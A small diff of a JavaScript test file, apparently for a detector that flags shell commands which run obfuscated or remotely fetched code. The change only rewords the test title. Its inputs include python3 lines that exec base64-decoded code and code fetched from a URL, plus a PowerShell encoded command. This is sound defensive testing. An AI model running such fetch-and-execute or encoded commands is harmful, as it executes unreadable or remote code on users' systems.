@@ -253,7 +253,7 @@ describe('the flow of a line', () => {
     `python3 -c "import base64; exec(base64.b64decode('eA=='))"`,
     `python3 -c "import urllib.request as u; exec(u.urlopen('http://x').read())"`,
     'pwsh -EncodedCommand eA==',
-  ])('sees code that runs what nobody can read: %s', (line) => {
+  ])('sees code that runs what cannot be read: %s', (line) => {
     expect(acts(line)).toContainEqual(expect.objectContaining({ act: 'blind-script' }));
   });
 
